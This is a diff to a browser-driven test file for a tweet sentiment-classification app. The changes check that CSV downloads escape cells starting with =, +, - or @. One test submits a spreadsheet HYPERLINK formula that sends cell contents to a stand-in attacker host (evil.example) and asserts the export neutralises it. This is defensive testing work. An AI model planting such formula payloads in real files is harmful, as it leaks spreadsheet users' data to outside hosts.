@@ -134,7 +134,10 @@ def test_an_uploaded_csv_is_classified_charted_and_downloaded_with_every_row(pag
                                         "p_neutral", "p_positive", "model_version"]  # the file's own columns kept
     assert results["row"].tolist() == [i + 1 for i in kept.index]
     assert results["id"].tolist() == kept["id"].tolist() and results["rating"].tolist() == kept["rating"].tolist()
-    assert results["text"].tolist() == kept["text"].tolist()
+    # A tweet a spreadsheet would run as a formula (the 363 replies that begin with @) has an apostrophe first.
+    assert sum(kept["text"].str.startswith("@")) == 363
+    assert results["text"].tolist() == [("'" if text.startswith(("=", "+", "-", "@")) else "") + text
+                                        for text in kept["text"]]
     assert set(results["label"]) == LABELS
     assert results["label"].tolist() == [p["label"] for p in api.predict_batch(kept["text"].tolist()).predictions]
     assert (results["model_version"] == version).all()
@@ -144,8 +147,10 @@ def test_history_lists_recent_predictions_in_the_browsers_time_zone_filters_by_l
         page_in_tokyo, ui_url, api, tweets, tmp_path):
     page = page_in_tokyo
     before = api.predictions(limit=1)["total"]
-    api.predict_batch(tweets["text"].iloc[200:260].tolist())
-    wait_until(lambda: api.predictions(limit=1)["total"] >= before + 60, timeout=30, what="history records")
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"I hate this awful day")'  # anyone may call the API
+    sent = api.predict_batch([*tweets["text"].iloc[200:260], attack])
+    assert sent.predictions[-1]["label"] == "negative"
+    wait_until(lambda: api.predictions(limit=1)["total"] >= before + 61, timeout=30, what="history records")
     since = (datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(days=1)).isoformat()
     latest = api.predictions(since=since, limit=1)
     total = latest["total"]
@@ -169,6 +174,8 @@ def test_history_lists_recent_predictions_in_the_browsers_time_zone_filters_by_l
     download.value.save_as(tmp_path / "history.csv")
     history = pd.read_csv(tmp_path / "history.csv")
     assert len(history) == min(negative, 1000) and set(history["label"]) == {"negative"}
+    assert "'" + attack in history["text"].tolist()  # shown as text by a spreadsheet, not run
+    assert not history["text"].str.match(r"[=+\-@]").any()
 
 
 def test_model_page_speaks_plainly_says_it_is_in_production_and_folds_away_the_technical_details(page, ui_url, api):
